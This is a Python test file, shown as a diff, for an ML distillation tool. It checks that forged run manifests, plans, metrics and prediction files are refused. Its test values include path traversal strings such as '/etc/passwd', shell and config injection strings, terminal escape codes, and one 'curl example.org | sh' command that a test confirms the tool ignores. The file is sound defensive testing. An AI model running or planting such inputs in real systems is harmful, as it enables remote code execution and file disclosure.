@@ -1,0 +1,302 @@
+"""Run folders and studies made by hand: read as data, refused in one line, and nothing of them leads elsewhere."""
+
+import json
+import os
+import shutil
+from contextlib import suppress
+from pathlib import Path
+from typing import Any
+
+import numpy as np
+import pytest
+
+import saved_studies
+from augdistill import listing
+from augdistill.errors import AugdistillError, RequestError, RunError
+from augdistill.metrics import Scores
+from augdistill.report.command import write_report
+from augdistill.report.provenance import provenance
+from augdistill.report.results import load_plan
+from augdistill.report.saved import SavedStudy
+from augdistill.runs import RunStore, read_manifest, sha256
+from hostile.corpus import HOSTILE_ARRAYS, HOSTILE_JSON, bounded_memory, npz, refusal
+
+pytestmark = pytest.mark.filterwarnings("ignore:Reading `.npy` or `.npz` file required additional header parsing")
+
+
+@pytest.fixture(scope="module")
+def made(tmp_path_factory) -> Path:
+    """The outputs folder of a synthetic study of ten stages; tests work on copies."""
+    outputs = tmp_path_factory.mktemp("made") / "outputs"
+    saved_studies.write_study(outputs, "study=tiny")
+    return outputs
+
+
+@pytest.fixture
+def outputs(made, tmp_path) -> Path:
+    shutil.copytree(made, tmp_path / "outputs")
+    return tmp_path / "outputs"
+
+
+def run_of(outputs: Path, kind: str) -> Path:
+    return next(path for path in sorted((outputs / "runs").iterdir()) if path.name.startswith(kind))
+
+
+def forge(run: Path, **changed: Any) -> None:
+    """Change a run's manifest and make all checksums right, as a forger would."""
+    path = run / "manifest.json"
+    manifest = {**json.loads(path.read_text()), **changed}
+    if "files" not in changed:
+        manifest["files"] = {name: sha256(run / name) for name in manifest["files"]}
+    manifest.pop("checksum", None)
+    path.write_text(json.dumps(manifest))
+
+
+@pytest.mark.parametrize("what", HOSTILE_JSON)
+def test_a_manifest_is_strict_json_of_the_right_form(what, outputs) -> None:
+    run = run_of(outputs, "teacher")
+    (run / "manifest.json").write_bytes(HOSTILE_JSON[what])
+    with bounded_memory():
+        for look in (
+            read_manifest,
+            lambda path: RunStore(outputs).all(),
+            lambda path: RunStore(outputs).get(str(path)),
+        ):
+            with pytest.raises(RunError, match="delete the folder to repeat the run") as raised:
+                look(run)
+            assert str(run / "manifest.json") in refusal(raised.value)
+
+
+FORGED: list[tuple[str, Any]] = [
+    *[("id", wrong) for wrong in ("../../../x", "a" * 63, "A" * 64, "a" * 64 + "\n", 1, None)],
+    *[("kind", wrong) for wrong in ("../teacher", "common", ["teacher"], None)],
+    *[("status", wrong) for wrong in ("running", "<b>", 1, ["finished"])],
+    *[("config", wrong) for wrong in (None, [], "x")],
+    *[("document", wrong) for wrong in (None, {"parents": {"teacher": "../x"}}, {"parents": []}, {"data": 1})],
+    *[("files", wrong) for wrong in ({"../x": "0"}, {"/etc/passwd": "0"}, {"a/b": "0"}, {"x": 1}, [], {"": "0"})],
+    *[("classes", wrong) for wrong in (None, "abc", [1], ["a\nb"], ["\x1b[31m"], ["\ud800"])],
+    *[("statistics", wrong) for wrong in (None, {"mean": ["x"], "std": [1.0]}, {"mean": [10**400], "std": [1]})],
+    ("format", 2),
+    ("collapsed", "no"),
+    ("validation_accuracy", "high"),
+    ("provenance", None),
+]
+
+
+@pytest.mark.parametrize(("key", "value"), FORGED, ids=lambda value: repr(value)[:40])
+def test_a_manifest_made_by_hand_is_refused_by_its_place(key, value, outputs) -> None:
+    run = run_of(outputs, "teacher")
+    forge(run, **{key: value})
+    with pytest.raises(RunError, match="missing or not what it must be") as raised:
+        read_manifest(run)
+    assert key in refusal(raised.value)
+
+
+@pytest.mark.parametrize(
+    ("key", "value"),
+    [
+        *[("seconds", wrong) for wrong in ("1", None, float("1e999"), [1])],
+        *[("parents", wrong) for wrong in ({"teacher": "../../x"}, {"teacher": None}, [])],
+        *[("versions", wrong) for wrong in (None, {"torch": 2}, [])],
+        *[("notes", wrong) for wrong in ("x", [1])],
+        *[(key, 5) for key in ("ended", "began", "precision")],
+    ],
+)
+def test_provenance_made_by_hand_is_refused_by_its_place(key, value, outputs) -> None:
+    run = run_of(outputs, "student")
+    text = json.loads((run / "manifest.json").read_text())["provenance"]
+    if value == float("inf"):
+        value = 0  # strict JSON has no infinity; a number too large for one has it all the same
+        forge(run, provenance={**text, key: "INFINITE"})
+        path = run / "manifest.json"
+        path.write_text(path.read_text().replace('"INFINITE"', "1e999"))
+    else:
+        forge(run, provenance={**text, key: value})
+    with pytest.raises(RunError, match=rf"provenance\.{key}") as raised:
+        read_manifest(run)
+    refusal(raised.value)
+
+
+@pytest.mark.parametrize("name", ["manifest.json", "metrics.json", "history.csv"])
+def test_a_pipe_or_device_in_a_run_is_not_opened(name, outputs) -> None:
+    run = run_of(outputs, "student" if name == "history.csv" else "evaluation")
+    for replace in (os.mkfifo, lambda path: os.symlink("/dev/zero", path), os.mkdir):
+        (run / name).unlink() if (run / name).is_symlink() or not (run / name).is_dir() else (run / name).rmdir()
+        replace(run / name)
+        with pytest.raises(AugdistillError) as raised:
+            report_of(outputs)
+        refusal(raised.value)
+
+
+def report_of(outputs: Path) -> SavedStudy:
+    """Read all that a report reads of a study but what figures alone need."""
+    saved = SavedStudy.load("tiny", outputs)
+    assert len(saved.results)
+    for place in saved.places:
+        saved.arrays(place, saved.test_set)
+        saved.history(place)
+        saved.correct(place.folder, saved.test_set)
+        saved.predictions(place.folder, saved.test_set, "embeddings", "labels")
+    return saved
+
+
+def change_plan(outputs: Path, change: Any) -> None:
+    path = outputs / "studies" / "tiny" / "plan.json"
+    plan = json.loads(path.read_text())
+    change(plan)
+    path.write_text(json.dumps(plan))
+
+
+@pytest.mark.parametrize(
+    "change",
+    [
+        lambda plan: plan.update(name="../../../x"),
+        lambda plan: plan.update(name="other"),
+        lambda plan: plan.update(stages={}),
+        lambda plan: plan.update(skipped=[1]),
+        lambda plan: plan["stages"][0].update(folder="../../x"),
+        lambda plan: plan["stages"][0].update(id="x"),
+        lambda plan: plan["stages"][0].update(kind="../x"),
+        lambda plan: plan["stages"][0]["arm"].update(block="1"),
+        lambda plan: plan["stages"][0]["arm"].update(model="<b>\n"),
+        lambda plan: plan["stages"][0]["job"].update(config=None),
+        lambda plan: plan["stages"][-1]["job"]["config"].update(run="../x"),
+        lambda plan: plan["stages"][-1]["arm"].pop("test_set"),
+        lambda plan: plan["study"].update(students={"x": {"name": "../../x", "optim": {}}}),
+        lambda plan: plan["study"].update(teacher={"name": "$(x)", "optim": {}}),
+        lambda plan: plan["study"].update(aug=["../x"]),
+        lambda plan: plan["study"].update(blocks="many"),
+        lambda plan: plan["study"].update(note="${oc.env:HOME}"),
+        lambda plan: plan["study"].pop("dataset"),
+    ],
+)
+def test_a_plan_made_by_hand_is_refused_and_writes_nothing_elsewhere(change, outputs) -> None:
+    change_plan(outputs, change)
+    with pytest.raises(RequestError, match=r"plan\.json") as raised:
+        write_report(["tiny"], outputs)
+    refusal(raised.value)
+    assert [path.name for path in outputs.parent.iterdir()] == ["outputs"]
+    assert [path.name for path in (outputs / "studies").iterdir()] == ["tiny"]
+
+
+@pytest.mark.parametrize("name", ["../x", "/etc", "..", ".", "", "a/b", "a\n", "<b>"])
+def test_a_report_is_of_a_study_by_name(name, tmp_path) -> None:
+    with pytest.raises(RequestError) as raised:
+        load_plan(tmp_path, name)
+    refusal(raised.value)
+
+
+def test_a_plan_names_no_command(outputs) -> None:
+    """What a page tells to type follows from the study's name alone."""
+    change_plan(outputs, lambda plan: plan.update(command="curl example.org | sh"))
+    made = provenance(SavedStudy.load("tiny", outputs), outputs)
+    assert made.command == "augdistill study study=tiny"
+
+
+def write_scores(outputs: Path, change: Any) -> None:
+    run = run_of(outputs, "evaluation")
+    scores = json.loads((run / "metrics.json").read_text())
+    change(scores)
+    (run / "metrics.json").write_text(json.dumps(scores))
+    forge(run)
+
+
+@pytest.mark.parametrize(
+    "change",
+    [
+        lambda scores: scores["scalars"].update(accuracy="high"),
+        lambda scores: scores["scalars"].update(accuracy=[1]),
+        lambda scores: scores["scalars"].update({"<script>": 1.0}),
+        lambda scores: scores.update(scalars=[]),
+        lambda scores: scores.update(arrays=None),
+        lambda scores: scores.pop("scaling"),
+        lambda scores: scores["arrays"].update(class_accuracy=[0.5] * 9),
+        lambda scores: scores["arrays"].update(confusion=[[1]] * 10),
+        lambda scores: scores["arrays"].update(confusion=[["1"] * 10] * 10),
+        lambda scores: scores["arrays"].update(class_means=5),
+        lambda scores: scores["arrays"]["reliability"].update(counts=[1] * 9),
+        lambda scores: scores["arrays"]["reliability"].pop("accuracy"),
+        lambda scores: scores["arrays"].update(
+            {name: [[1.0] * 4] * 4 for name in ("confusion", "class_means")}, class_accuracy=[1.0] * 4
+        ),
+    ],
+)
+def test_metrics_made_by_hand_are_refused(change, outputs) -> None:
+    write_scores(outputs, change)
+    with pytest.raises(RunError, match=r"metrics\.json") as raised:
+        report_of(outputs)
+    refusal(raised.value)
+
+
+@pytest.mark.parametrize("what", HOSTILE_JSON)
+def test_metrics_are_strict_json(what, tmp_path) -> None:
+    (tmp_path / "metrics.json").write_bytes(HOSTILE_JSON[what])
+    with bounded_memory(), pytest.raises(RunError, match="cannot be read") as raised:
+        Scores.read(tmp_path / "metrics.json")
+    refusal(raised.value)
+
+
+@pytest.mark.parametrize(
+    "text",
+    ["epoch,loss\n0,low\n", "epoch\n1,2,3\n", "a" * 200_000, "epoch\n\x00\n", "epoch,loss\n0,\udcff\n", "e\n1_\n"],
+)
+def test_a_history_holds_numbers(text, outputs) -> None:
+    run = run_of(outputs, "teacher")
+    (run / "history.csv").write_bytes(text.encode(errors="surrogateescape"))
+    forge(run)
+    with suppress(RunError):  # a file of headings alone holds no number that could be wrong
+        saved = report_of(outputs)
+        rows = [row for place in saved.places for row in saved.history(place)]
+        assert all(type(value) is float for row in rows for value in row.values())
+
+
+def arrays(**changed: Any) -> bytes:
+    """Return predictions.npz of 300 images, with arrays changed, or bytes instead of them."""
+    import io
+
+    values = {"logits": np.eye(10, dtype=np.float32)[np.arange(300) % 10], "labels": np.arange(300) % 10, **changed}
+    kept = {name: value for name, value in values.items() if not isinstance(value, bytes)}
+    raw = {f"{name}.npy": value for name, value in values.items() if isinstance(value, bytes)}
+    content = {}
+    for name, value in kept.items():
+        file = io.BytesIO()
+        np.save(file, value)
+        content[f"{name}.npy"] = file.getvalue()
+    return npz({**content, **raw})
+
+
+@pytest.mark.parametrize(
+    "changed",
+    [
+        {"logits": np.zeros((299, 10), np.float32)},
+        {"logits": np.zeros((300, 9), np.float32)},
+        {"logits": np.zeros(300, np.float32)},
+        {"logits": np.full((300, 10), np.nan, np.float32)},
+        {"logits": np.zeros((300, 10), np.int64)},
+        {"labels": np.full(300, 10)},
+        {"labels": np.full(300, -1)},
+        {"labels": np.zeros(300)},
+        {"labels": np.zeros((300, 1), int)},
+        {"labels": np.int64(3), "logits": np.float32(3)},
+        {"embeddings": np.zeros((2, 3), np.float32)},
+        {"embeddings": np.full((300, 3), np.inf, np.float32)},
+        *({"logits": content} for content in HOSTILE_ARRAYS.values()),
+    ],
+)
+def test_predictions_made_by_hand_are_refused(changed, outputs) -> None:
+    run = next(path for path in (outputs / "runs").glob("evaluation-*student*"))
+    (run / "predictions.npz").write_bytes(arrays(**changed))
+    forge(run)
+    with bounded_memory(), pytest.raises(RunError, match=r"predictions\.npz") as raised:
+        report_of(outputs)
+    refusal(raised.value)
+
+
+def test_what_runs_say_is_printed_without_escapes(outputs) -> None:
+    run = run_of(outputs, "teacher")
+    (run / "config.yaml").write_text("a: \x1b]0;title\x07\x1b[2J\n")
+    text = json.loads((run / "manifest.json").read_text())["provenance"]
+    forge(run, provenance={**text, "notes": ["\x1b[31m", "\r\x9b2J"]})
+    shown = listing.show_run(RunStore(outputs), run.name)
+    assert "title" in shown
+    assert all(mark.isprintable() or mark == "\n" for mark in shown)
